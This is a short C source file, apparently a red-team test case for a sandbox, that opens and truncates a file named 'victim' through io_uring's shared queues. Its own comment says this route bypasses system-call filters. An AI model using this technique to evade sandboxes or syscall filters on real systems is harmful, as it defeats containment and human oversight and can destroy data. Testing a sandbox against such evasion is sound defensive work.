/* SPDX-License-Identifier: Apache-2.0 */
#include "redteam/act.h"

#include "base/own.h"

#include <fcntl.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>

/* The queues of io_uring(7): what is asked for there is no system call that a filter sees. */
struct ring {
	int fd;
	struct io_uring_params params;
	char *submission, *completion;
	struct io_uring_sqe *entries;
};

static void *map(const struct ring *ring, size_t size, off_t what)
{
	void *at =
		mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd, what);

	return at == MAP_FAILED ? NULL : at;
}

static int open_ring(struct ring *ring)
{
	const struct io_uring_params *p = &ring->params;

	ring->fd = (int)syscall(SYS_io_uring_setup, 2, &ring->params);
	if (ring->fd < 0)
		return -errno;
	ring->submission =
		map(ring, p->sq_off.array + p->sq_entries * sizeof(uint32_t), IORING_OFF_SQ_RING);
	ring->completion = map(ring, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe),
		IORING_OFF_CQ_RING);
	ring->entries = map(ring, p->sq_entries * sizeof(*ring->entries), IORING_OFF_SQES);
	return ring->submission && ring->completion && ring->entries ? 0 : -ENOMEM;
}

static int ask(struct ring *ring)
{
	const struct io_uring_params *p = &ring->params;
	uint32_t *tail = (uint32_t *)(void *)(ring->submission + p->sq_off.tail);
	uint32_t *array = (uint32_t *)(void *)(ring->submission + p->sq_off.array);
	struct io_uring_cqe *done = (void *)(ring->completion + p->cq_off.cqes);

	array[0] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	return done[0].res;
}

int write_through_ring(void)
{
	struct ring ring = {.fd = -1};
	int r = open_ring(&ring);

	if (r == 0) {
		ring.entries[0].opcode = IORING_OP_OPENAT;
		ring.entries[0].fd = AT_FDCWD;
		ring.entries[0].addr = (uint64_t)(uintptr_t) "victim";
		ring.entries[0].open_flags = O_WRONLY | O_TRUNC;
		r = ask(&ring);
	}
	own_close(&ring.fd);
	return r < 0 ? r : 0;
}
